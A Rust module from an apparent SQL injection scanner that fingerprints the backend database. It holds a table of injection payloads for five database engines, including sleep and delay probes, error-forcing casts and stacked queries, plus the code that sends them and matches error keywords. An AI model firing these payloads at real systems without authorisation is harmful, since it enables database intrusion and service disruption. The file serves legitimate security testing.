//! DBMS fingerprinting
//!
//! Probes from [`FINGERPRINT_PROBES`] are sent in table order. A sleep-style
//! probe matches on delay, any probe may match on its error keywords. The
//! first match wins; running out of probes yields [`Dbms::Unknown`].

use super::{ProbeKind, ScanContext};
use crate::events::LogLevel;
use crate::models::{AttackSurface, Dbms};
use regex::{Regex, RegexBuilder};
use std::sync::LazyLock;
use tracing::debug;

/// One row of the fingerprint table
#[derive(Debug)]
pub struct FingerprintProbe {
    pub dbms: Dbms,
    /// Appended to the injection prefix
    pub payload: &'static str,
    /// Matches when the response is delayed past the fingerprint floor
    pub timing: bool,
    /// Case-insensitive patterns that identify `dbms` in the response body
    pub keywords: &'static [&'static str],
}

pub const FINGERPRINT_PROBES: &[FingerprintProbe] = &[
    FingerprintProbe {
        dbms: Dbms::MySql,
        payload: " AND SLEEP(5)",
        timing: true,
        keywords: &["MySQL", "MariaDB", "value is out of range in 'OFFSET'", "right syntax to use near"],
    },
    FingerprintProbe {
        dbms: Dbms::MySql,
        payload: " AND BENCHMARK(5000000,MD5('1'))",
        timing: true,
        keywords: &[],
    },
    FingerprintProbe {
        dbms: Dbms::MySql,
        payload: " AND 1=CONVERT(int,VERSION())",
        timing: false,
        keywords: &["CONVERT", "VERSION", "MySQL", "truncated"],
    },
    FingerprintProbe {
        dbms: Dbms::PostgreSql,
        payload: " AND PG_SLEEP(5)",
        timing: true,
        keywords: &["PostgreSQL", "pg_sleep", "unterminated quoted string", "invalid input syntax for type"],
    },
    FingerprintProbe {
        dbms: Dbms::PostgreSql,
        payload: " AND 1=(SELECT CAST(VERSION() AS INT))",
        timing: false,
        keywords: &["PostgreSQL", "cannot be cast to integer", "invalid input syntax for type integer"],
    },
    FingerprintProbe {
        dbms: Dbms::MsSql,
        payload: "; WAITFOR DELAY '00:00:05'",
        timing: true,
        keywords: &["SQL Server", "WAITFOR", "mssql"],
    },
    FingerprintProbe {
        dbms: Dbms::MsSql,
        payload: " AND 1=@@VERSION--",
        timing: false,
        keywords: &["Microsoft SQL Server", "Syntax error converting the nvarchar value", "conversion failed"],
    },
    FingerprintProbe {
        dbms: Dbms::Oracle,
        payload: " AND 1=DBMS_LOCK.SLEEP(5)",
        timing: true,
        keywords: &["Oracle", "ORA-"],
    },
    FingerprintProbe {
        dbms: Dbms::Oracle,
        payload: " AND 1=UTL_INADDR.GET_HOST_ADDRESS('127.0.0.1')",
        timing: false,
        keywords: &["Oracle", "UTL_INADDR", "ORA-"],
    },
    FingerprintProbe {
        dbms: Dbms::Oracle,
        payload: " AND 1=DECODE(SUBSTR(BANNER,1,1), 'O', 1, 0) FROM V$VERSION",
        timing: false,
        keywords: &["ORA-00933", "ORA-00904", "ORA-01756"],
    },
    FingerprintProbe {
        dbms: Dbms::Sqlite,
        payload: " AND 1=LIKE('ABCDEFG',UPPER('Abcdefg')) AND RANDOMBLOB(10000000)",
        timing: true,
        keywords: &["SQLite", "sqlite_version"],
    },
    FingerprintProbe {
        dbms: Dbms::Sqlite,
        payload: " AND 1=TYPEOF(sqlite_version())",
        timing: false,
        keywords: &["SQLite", "sqlite_version"],
    },
];

/// Compiled keyword matchers, indexed like [`FINGERPRINT_PROBES`]
static KEYWORD_MATCHERS: LazyLock<Vec<Vec<Regex>>> = LazyLock::new(|| {
    FINGERPRINT_PROBES
        .iter()
        .map(|probe| {
            probe
                .keywords
                .iter()
                .filter_map(|k| {
                    RegexBuilder::new(&regex::escape(k))
                        .case_insensitive(true)
                        .build()
                        .ok()
                })
                .collect()
        })
        .collect()
});

/// Progress of one fingerprinting attempt
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FingerprintState {
    NotStarted,
    /// Index of the probe about to be sent
    Probing(usize),
    Confirmed(Dbms),
    /// Every probe sent, none matched
    Unknown,
}

/// Assembles the request value for a fingerprint probe
pub fn fingerprint_payload(prefix: &str, probe: &FingerprintProbe) -> String {
    let prefix = prefix.trim();
    let mut payload = if matches!(prefix, "'" | "\"" | "`") && probe.payload.starts_with(prefix) {
        probe.payload.to_string()
    } else {
        format!("{prefix}{}", probe.payload)
    };

    if !payload.contains("--") && !payload.contains(';') && !payload.contains('#') {
        payload.push_str(probe.dbms.comment());
    }
    payload
}

/// Identifies the DBMS behind `param`. `Unknown` is a normal outcome.
pub async fn fingerprint(ctx: &ScanContext, surface: &AttackSurface, param: &str, prefix: &str) -> Dbms {
    let tuning = &ctx.options.tuning;
    let upper_ms = ctx
        .prober
        .timeout_ms()
        .saturating_sub(tuning.fingerprint_timeout_margin_ms);
    let mut state = FingerprintState::NotStarted;

    loop {
        state = match state {
            FingerprintState::NotStarted => FingerprintState::Probing(0),
            FingerprintState::Confirmed(dbms) => {
                ctx.prober.log(
                    LogLevel::Info,
                    &format!("DBMS for '{param}' @ {} looks like {dbms}", surface.action),
                );
                return dbms;
            }
            FingerprintState::Unknown => {
                debug!("Fingerprinting inconclusive for {param}");
                return Dbms::Unknown;
            }
            FingerprintState::Probing(index) if index >= FINGERPRINT_PROBES.len() => FingerprintState::Unknown,
            FingerprintState::Probing(_) if ctx.prober.is_stopped() => FingerprintState::Unknown,
            FingerprintState::Probing(index) => {
                let probe = &FINGERPRINT_PROBES[index];
                let payload = fingerprint_payload(prefix, probe);

                match ctx.prober.send(surface, param, &payload, ProbeKind::Fingerprint).await {
                    Ok(resp) => {
                        let delayed = probe.timing
                            && resp.elapsed_ms > tuning.fingerprint_delay_floor_ms
                            && resp.elapsed_ms < upper_ms;
                        let keyword_hit = KEYWORD_MATCHERS
                            .get(index)
                            .map(|matchers| matchers.iter().any(|re| re.is_match(&resp.body)))
                            .unwrap_or(false);

                        if delayed || keyword_hit {
                            debug!(
                                "Fingerprint match {} via {} with {payload:?}",
                                probe.dbms,
                                if delayed { "delay" } else { "keyword" }
                            );
                            FingerprintState::Confirmed(probe.dbms)
                        } else {
                            FingerprintState::Probing(index + 1)
                        }
                    }
                    Err(e) => {
                        ctx.prober.log(
                            LogLevel::Debug,
                            &format!("Fingerprint probe {} {payload:?} failed: {e}", probe.dbms),
                        );
                        FingerprintState::Probing(index + 1)
                    }
                }
            }
        };
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_payload_assembly() {
        assert_eq!(fingerprint_payload("'", &FINGERPRINT_PROBES[0]), "' AND SLEEP(5)#");
        assert_eq!(
            fingerprint_payload("'", &FINGERPRINT_PROBES[5]),
            "'; WAITFOR DELAY '00:00:05'"
        );
        assert_eq!(fingerprint_payload("1", &FINGERPRINT_PROBES[3]), "1 AND PG_SLEEP(5)-- ");
        assert_eq!(fingerprint_payload("'", &FINGERPRINT_PROBES[7]), "' AND 1=DBMS_LOCK.SLEEP(5)");
    }

    #[test]
    fn test_table_is_ordered_and_compiled() {
        assert_eq!(FINGERPRINT_PROBES[0].dbms, Dbms::MySql);
        assert_eq!(FINGERPRINT_PROBES.last().map(|p| p.dbms), Some(Dbms::Sqlite));
        assert_eq!(KEYWORD_MATCHERS.len(), FINGERPRINT_PROBES.len());
        for (probe, matchers) in FINGERPRINT_PROBES.iter().zip(KEYWORD_MATCHERS.iter()) {
            assert_eq!(probe.keywords.len(), matchers.len());
        }
    }

    #[test]
    fn test_keywords_are_case_insensitive() {
        let oracle = &KEYWORD_MATCHERS[7];
        assert!(oracle.iter().any(|re| re.is_match("ora-00942: table or view does not exist")));
    }
}
